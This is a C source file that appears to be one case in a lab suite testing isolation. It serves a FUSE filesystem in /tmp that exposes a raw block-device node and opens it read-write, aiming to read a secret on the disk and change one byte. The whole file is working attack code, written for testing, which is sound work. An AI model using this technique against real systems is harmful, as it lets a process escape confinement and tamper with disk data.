// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * G2, G4. Serves a filesystem of its own in /tmp, where it may read and write anything, in which a
 * device node of a disk lies that nobody was asked about, and opens that. Source: fs/fuse/inode.c,
 * fuse_init_inode(). Control: the secret on the disk is read, and a byte of it changed.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/stat.h>

#include "attack.h"
#include "files.h"
#include "served.h"

#define VIEW "/tmp/lab-served"

enum { ROOT = 1, NODE = 2, RAW_DEVICE_NUMBER = 7 << 8 | 5 };

static struct fuse_attr attributes(uint64_t node)
{
	if (node == ROOT)
		return (struct fuse_attr){ .ino = ROOT, .mode = S_IFDIR | 0755, .nlink = 2 };
	return (struct fuse_attr){ .ino = NODE, .mode = S_IFBLK | 0600, .nlink = 1,
				   .rdev = RAW_DEVICE_NUMBER };
}

static bool answer(const struct fuse_in_header *head, const void *body)
{
	const struct fuse_entry_out entry = { .nodeid = NODE, .attr = attributes(NODE) };
	const struct fuse_attr_out out = { .attr = attributes(head->nodeid) };

	(void)body;
	switch (head->opcode) {
	case FUSE_GETATTR:
		served_answer(head->unique, 0, &out, sizeof(out));
		return true;
	case FUSE_LOOKUP:
		served_answer(head->unique, 0, &entry, sizeof(entry));
		return true;
	default:
		return false;
	}
}

void attack(void)
{
	stage("raw-disk");
	make_directory(VIEW);
	serve(VIEW, "rootmode=40755", answer);
	judge_raw_disk(open(VIEW "/disk", O_RDWR | O_CLOEXEC));
}
